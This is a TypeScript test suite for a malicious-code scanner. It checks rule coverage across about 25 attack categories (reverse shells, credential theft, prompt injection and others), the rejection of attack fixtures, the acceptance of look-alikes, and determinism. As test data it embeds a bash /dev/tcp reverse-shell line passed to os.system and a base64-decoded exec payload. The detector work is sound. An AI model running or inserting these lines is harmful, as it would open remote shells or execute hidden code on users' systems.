// The malicious gate's contract: every rule proves itself, ids are unique, categories are complete, published attack
// classes are found, look-alikes are not, hostile input stays inside the budget, verdicts are deterministic, and code
// cannot change them without a new engine number (I5, I10).
// Mutants: drop `inspects` in context.ts; make `command` hold without a runner; let `near` ignore its lines.
import { createHash } from 'node:crypto'
import { readdirSync, readFileSync } from 'node:fs'
import { join, relative } from 'node:path'
import { describe, expect, it } from 'vitest'
import { capabilities } from '../../processors/malicious/capabilities.ts'
import { malicious } from '../../processors/malicious/index.ts'
import { engine } from '../../processors/malicious/limits.ts'
import { ruleSets } from '../../processors/malicious/rules.ts'
import { indexRules } from '../../processors/malicious/signatures.ts'
import type { Verdict } from '../../schemas/types.ts'
import { judgeText } from './malicious-helper.ts'
import { pinned } from './malicious-pinned.ts'

/** The categories of the design, each by the name it has here. */
const categories = [
  'anti-analysis',
  'backdoor-auth',
  'clipboard-hijack',
  'container-escape',
  'covert-exfiltration',
  'credential-theft',
  'cryptominer',
  'decoded-exec',
  'deserialisation',
  'download-run',
  'env-exfiltration',
  'install-hook',
  'log-wiping',
  'macos',
  'obfuscation',
  'persistence',
  'privilege-escalation',
  'prompt-injection',
  'ransomware',
  'reverse-shell',
  'shell-injection',
  'spying',
  'supply-chain',
  'web-shell',
  'windows',
]

type Sample = { readonly path: string; readonly category: string; readonly verdict: Verdict }

function samplesIn(folder: string): readonly Sample[] {
  const root = join(import.meta.dirname, 'fixtures', folder)
  return readdirSync(root, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => relative(root, join(entry.parentPath, entry.name)))
    .sort()
    .map((path) => {
      const category = path.split('/')[0] ?? ''
      const content = readFileSync(join(root, path), 'utf8')
      const verdict = judgeText({ content, path: path.slice(category.length + 1), language: 'unknown' })
      return { path, category, verdict }
    })
}

const attacks = samplesIn('malicious')
const lookalikes = samplesIn('lookalikes')
const rulesOf = (verdict: Verdict): readonly string[] => verdict.findings.map((finding) => finding.rule)

describe('malicious: every rule', () => {
  for (const rule of malicious.rules) {
    it(`${rule.id} matches its matches and misses its misses`, () => {
      expect(rule.matches.length).toBeGreaterThan(0)
      expect(rule.misses.length).toBeGreaterThan(0)
      for (const example of rule.matches) {
        expect(rulesOf(judgeText(example)), JSON.stringify(example)).toContain(rule.id)
      }
      for (const example of rule.misses) {
        expect(rulesOf(judgeText(example)), JSON.stringify(example)).not.toContain(rule.id)
      }
    })
  }

  it('has an id of its own, in its category, in kebab case', () => {
    const ids = malicious.rules.map((rule) => rule.id)
    expect(new Set(ids).size).toBe(ids.length)
    expect(ids.length).toBeGreaterThanOrEqual(100)
    for (const rule of malicious.rules) {
      expect(rule.id).toMatch(/^[a-z]+(-[a-z]+)*\.[a-z]+(-[a-z]+)*$/)
      expect(rule.id.startsWith(`${rule.group}.`)).toBe(true)
    }
  })

  it('belongs to a category of the design, and each has rules that reject', () => {
    expect([...new Set(malicious.rules.map((rule) => rule.group))].sort()).toEqual(categories)
    const rejecting = malicious.rules.filter((rule) => rule.severity === 'high' || rule.severity === 'critical')
    expect([...new Set(rejecting.map((rule) => rule.group))].sort()).toEqual(categories)
  })
})

describe('malicious: inert samples of published attacks', () => {
  it('are rejected, with the lines and evidence that is plain ASCII', () => {
    expect(attacks.length).toBeGreaterThanOrEqual(150)
    expect([...new Set(attacks.map(({ category }) => category))].sort()).toEqual(categories)
    expect(attacks.filter(({ verdict }) => verdict.decision !== 'reject').map(({ path }) => path)).toEqual([])
    for (const { verdict } of attacks) {
      for (const { evidence, startLine, endLine } of verdict.findings) {
        expect(evidence).toMatch(/^[\x20-\x7e]{1,120}$/)
        expect(startLine).toBeGreaterThan(0)
        expect(endLine).toBeGreaterThanOrEqual(startLine)
      }
    }
  })

  it('are mostly named by a rule of their own category', () => {
    const named = attacks.filter(({ category, verdict }) =>
      rulesOf(verdict).some((id) => id.startsWith(`${category}.`)),
    )
    expect(named.length / attacks.length).toBeGreaterThan(0.9)
  })
})

describe('malicious: what only looks like it', () => {
  it('is accepted: scanners, their rules and tests, documents, installers, honest system code', () => {
    expect(lookalikes.length).toBeGreaterThanOrEqual(30)
    const rejected = lookalikes.filter(({ verdict }) => verdict.decision === 'reject')
    expect(rejected.map(({ path, verdict }) => `${path}: ${verdict.reason}`)).toEqual([])
  })

  it('is not made harmless by a word, a name or a comment', () => {
    const payload = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
    for (const path of ['tests/test_rules.py', 'docs/example.py', 'yara/detection_rules.py', 'fixtures/a.py']) {
      const content = `# test fixture for detection rules, harmless, nosec, noqa\n${payload}`
      expect(judgeText({ content, path, language: 'Python' }).decision, path).toBe('reject')
    }
  })

  it('is rejected once it runs: the same text as a comment, a pattern, a message and a command', () => {
    const judged = (content: string) => judgeText({ content, path: 'a.py', language: 'Python' }).decision
    const shell = 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'
    expect(judged(`import os\n# ${shell}\nos.listdir()\n`)).toBe('accept')
    expect(judged(`import os, re\nP = re.compile("${shell}")\nos.system("ls")\n`)).toBe('accept')
    expect(judged(`import os\nprint("${shell}")\nos.system("ls")\n`)).toBe('accept')
    expect(judged(`import os\nos.system("${shell}")\n`)).toBe('reject')
  })
})

describe('malicious: verdicts', () => {
  it('say the same of the same file, byte for byte', () => {
    expect(digestOf(samplesIn('malicious'))).toBe(digestOf(attacks))
    expect(digestOf(samplesIn('lookalikes'))).toBe(digestOf(lookalikes))
  })

  it('stay what they are while the engine number does (I5)', () => {
    const text = malicious.rulesetText.replace(`"engine":${engine},`, '')
    const rules = createHash('sha256').update(text).digest('hex')
    const examples = malicious.rules
      .flatMap((rule) => [...rule.matches, ...rule.misses])
      .map((example, at) => ({ path: String(at), category: '', verdict: judgeText(example) }))
    const found = { engine, rules, verdicts: digestOf([...examples, ...attacks, ...lookalikes]) }
    // Other rules: pin anew. The same rules and other verdicts: the code changed them, raise `engine` and pin anew.
    expect(found).toEqual(pinned)
  })
})

const digestOf = (samples: readonly Sample[]): string =>
  createHash('sha256')
    .update(JSON.stringify(samples.map(({ path, verdict }) => [path, { ...verdict, ruleset: '' }])))
    .digest('hex')

describe('malicious: hostile input of 1 MiB', () => {
  const size = 1_048_576
  const words = [...new Set(indexRules(ruleSets, capabilities).patterns.flatMap((pattern) => pattern.keywords))]
  const fills = [
    '(',
    '"',
    "'",
    '/*',
    '<!--',
    '`\u0024{',
    ' ',
    '\n',
    '{',
    '<script>',
    'exec("curl ',
    'eval(base64.b64decode(',
  ]

  it('ends with a verdict, the same twice, whatever it repeats', { timeout: 240_000 }, () => {
    // Every 23rd keyword with each language, and the openings that could mislead the lexer.
    const seeds = [...words.filter((_, at) => at % 23 === 0), ...fills]
    expect(words.length).toBeGreaterThan(1_000)
    for (const [at, seed] of seeds.entries()) {
      const path = ['a.py', 'a.js', 'a.sh', 'a.php', 'a.html', 'a.rb'][at % 6] ?? 'a.py'
      const content = Buffer.alloc(size, `${seed} `, 'latin1').toString('latin1').slice(0, size)
      const verdict = judgeText({ content, path, language: 'unknown' })
      expect(verdict.signals['scan.exhausted'] === 1).toBe(verdict.reason === 'scan.budget')
      if (at % 12 === 0) expect(judgeText({ content, path, language: 'unknown' })).toEqual(verdict)
    }
  })

  it('is rejected as scan.budget where the work runs out', () => {
    const content = 'eval '.repeat(200_000)
    expect(judgeText({ content, path: 'a.py', language: 'Python' })).toMatchObject({
      decision: 'reject',
      reason: 'scan.budget',
    })
  })
})
